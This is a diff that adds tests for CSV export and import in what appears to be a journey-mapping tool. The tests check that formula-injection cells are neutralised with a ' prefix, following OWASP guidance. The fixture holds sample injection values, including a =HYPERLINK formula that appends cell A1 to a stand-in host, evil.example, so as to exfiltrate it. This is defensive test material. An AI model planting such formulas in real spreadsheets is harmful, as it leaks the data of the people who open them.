@@ -263,3 +263,71 @@ def test_for_excel(root: Path) -> None:
     content = check_root(root)
     back, original = content.journeys["x"], content.journeys["ecommerce/cart-abandonment"]
     assert back.model_dump(exclude={"id"}) == original.model_dump(exclude={"id"})
+
+
+FORMULAS = """
+title: Formule
+persona: giulia
+summary: "=HYPERLINK(\\"https://evil.example/?\\"&A1, \\"Clicca\\")"
+stages:
+  - name: "+SUM(A1)"
+    steps:
+      - title: "@foo"
+        emotion: -2
+        doing: "-2+3"
+        thinking: "\\tDDE"
+        feeling: "\\r=1+1"
+        pains: ["=1+1", "ok"]
+        backstage: "'=già quotato"
+      - title: Numeri
+        emotion: -0.5
+        metrics: {csat: -3.5}
+        doing: "-2"
+      - title: "È +1 qui"
+        emotion: 1.5
+"""
+
+
+def test_export_cells_are_never_formulas(root: Path) -> None:
+    """OWASP's CSV injection guidance: a cell starting with = + - @ tab or CR is prefixed
+    with ' and quoted, so a spreadsheet shows it as text; a number stays a number."""
+    (root / "formule.yaml").write_text(FORMULAS, encoding="utf-8")
+    code, sheet, stderr = run("export", "csv", "formule")
+    assert (code, stderr) == (0, "")
+    header = sheet.split("\n", 1)[0].split(",")
+    assert header[:7] == ["stage", "title", "doing", "thinking", "feeling", "emotion", "pains"]
+    rows = list(csv.reader(io.StringIO(sheet)))
+    cells = dict(zip(rows[0], rows[1], strict=True))
+    assert cells["stage"] == "'+SUM(A1)"
+    assert cells["title"] == "'@foo"
+    assert cells["emotion"] == "-2"
+    assert cells["doing"] == "'-2+3"
+    assert cells["thinking"] == "'\tDDE"
+    assert cells["feeling"] == "'\r=1+1"
+    assert cells["pains"] == "'=1+1\nok"
+    assert cells["backstage"] == "''=già quotato"
+    assert cells["summary"] == '\'=HYPERLINK("https://evil.example/?"&A1, "Clicca")'
+    second = dict(zip(rows[0], rows[2], strict=True))
+    assert (second["emotion"], second["doing"], second["metrics"]) == ("-0.5", "-2", "csat: -3.5")
+    third = dict(zip(rows[0], rows[3], strict=True))
+    assert (third["title"], third["emotion"]) == ("È +1 qui", "1.5")
+    # as written: quoted where escaped, a number bare
+    assert '\n"\'+SUM(A1)","\'@foo","\'-2+3","\'\tDDE","\'\r=1+1",-2,' in sheet
+    assert '\n"\'+SUM(A1)",Numeri,-2,,,-0.5,,,csat: -3.5,' in sheet
+
+
+def test_export_of_formulas_round_trips(root: Path) -> None:
+    """Importing our own sheet takes the ' back off: what was written comes back."""
+    # a CR in a cell is read back as a line break, as every line break is
+    (root / "formule.yaml").write_text(FORMULAS.replace("\\r=", "\\n="), encoding="utf-8")
+    for separator in (",", ";"):
+        code, sheet, _ = run("export", "csv", "formule", "--delimiter", separator)
+        assert code == 0
+        Path("sheet.csv").write_text(sheet, encoding="utf-8", newline="")
+        target = f"journeys/back/formule{separator == ';'}.yaml".lower()
+        code, stdout, stderr = run("import", "csv", "sheet.csv", "-o", target)
+        assert (code, stderr) == (0, ""), stdout
+    content = check_root(root)
+    original = content.journeys["formule"].model_dump(exclude={"id"})
+    for back in ("back/formulefalse", "back/formuletrue"):
+        assert content.journeys[back].model_dump(exclude={"id"}) == original
